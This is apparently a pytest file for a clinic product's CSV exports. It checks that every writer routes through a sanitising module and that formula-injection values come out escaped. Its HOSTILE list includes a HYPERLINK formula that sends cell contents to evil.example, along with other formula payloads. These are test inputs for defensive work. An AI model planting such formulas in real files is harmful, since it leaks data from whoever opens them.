"""CSV formula injection (issue 14, finding 2): every CSV the product writes goes through
alliance/csv_cells.py, and no cell a spreadsheet would evaluate leaves the product.

The first test enumerates the places that write CSV by reading the source: a new writer that does
not go through csv_cells fails it, and one that does must be added to `PLACES` with a test that
feeds it a hostile value.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest

import alliance
from alliance import csv_cells
from alliance.api import export as research
from alliance.checkins.models import Response
from tests.conftest import Clinic
from tests.rights import helpers as rights_helpers

SOURCE = Path(alliance.__file__).parent
# Writing CSV without the one module: the standard library's writers, polars' and pandas'.
RAW_WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\.(write_csv|sink_csv|to_csv)\(")
USES = re.compile(r"csv_cells\.(writer|write_frame)\(")
# Every place that writes CSV, with the test below that feeds it a hostile value.
PLACES = {
    "rights/export.py": "test_the_client_export_neutralises_what_the_client_typed",
    "api/export.py": "test_the_research_export_neutralises_every_text_cell (and its dictionary)",
}
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def _python_files() -> list[Path]:
    return [p for p in SOURCE.rglob("*.py") if "migrations" not in p.parts]


def test_every_csv_writer_goes_through_the_one_module() -> None:
    raw = [
        str(path.relative_to(SOURCE))
        for path in _python_files()
        if path.name != "csv_cells.py" and RAW_WRITERS.search(path.read_text())
    ]
    assert not raw, f"write CSV through alliance/csv_cells.py instead: {raw}"
    users = {str(p.relative_to(SOURCE)) for p in _python_files() if USES.search(p.read_text())}
    assert users == set(PLACES), "add each CSV-writing place to PLACES, with a hostile-value test"


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_written_as_text(value: str) -> None:
    out = io.StringIO()
    csv_cells.writer(out).writerow([value, -3, 2.5, "plain", None])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells == ["'" + value, "-3", "2.5", "plain", ""]


def _dangerous(cell: str) -> bool:
    return cell.startswith(csv_cells.FORMULA_STARTS)


@pytest.mark.django_db
def test_the_client_export_neutralises_what_the_client_typed(
    clinic: Clinic, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every distinctive word of a full record (names, contact, goals the client proposed through
    their link, tasks, answers, agenda, preferences, alert notes) made hostile."""
    secrets = rights_helpers.SECRETS
    for position, key in enumerate(secrets):
        monkeypatch.setitem(secrets, key, HOSTILE[position % 4][:1] + secrets[key])
    record = rights_helpers.full_record(clinic)
    response = clinic.login("therapist").post(f"/clients/{record.client.pk}/export/")
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = [n for n in archive.namelist() if n.endswith(".csv")]
    assert {"client.csv", "episodes.csv", "goals.csv", "goal_history.csv"} <= set(names)
    cells = [
        cell
        for name in names
        for row in csv.reader(io.StringIO(archive.read(name).decode()))
        for cell in row
    ]
    assert not [cell for cell in cells if _dangerous(cell)]
    for word in ("name", "phone", "goal", "proposal"):  # each reached a table, escaped
        assert any(cell.startswith("'" + secrets[word]) for cell in cells), word


@pytest.mark.django_db
def test_the_research_export_neutralises_every_text_cell(
    clinic: Clinic,
    tmp_path: Path,
    settings,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from tests.api.test_export import answer_sessions

    settings.EXPORT_MIN_CELL = 1
    answer_sessions(clinic, 1)
    # A clinic loads its own instrument definitions: their keys and versions are not ours.
    Response.objects.update(instrument_key=HOSTILE[0])
    columns = research.columns_of
    monkeypatch.setattr(
        research, "columns_of", lambda rows: [*columns(rows), ("@extra", pl.Utf8, "=1+1")]
    )
    result = research.write(clinic.org, tmp_path, ("csv",))
    for name in ("responses.csv", "data_dictionary.csv"):
        rows = list(csv.reader(io.StringIO((result.directory / name).read_text())))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if _dangerous(cell)], name
    responses = (result.directory / "responses.csv").read_text()
    assert "'=HYPERLINK" in responses
